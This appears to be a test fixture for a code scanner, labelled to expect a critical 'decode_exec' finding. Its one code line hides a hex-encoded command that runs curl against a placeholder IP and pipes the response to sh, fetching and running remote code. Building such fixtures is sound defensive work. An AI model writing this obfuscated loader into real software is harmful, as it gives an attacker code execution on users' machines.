# expect: python.decode_exec critical
# path: tools/run.py
"""module docstring"""

eval(compile(bytes.fromhex("696d706f7274206f733b6f732e73797374656d28276375726c202d7320687474703a2f2f3230332e302e3131332e3137312f787c73682729"), "<x>", "exec"))
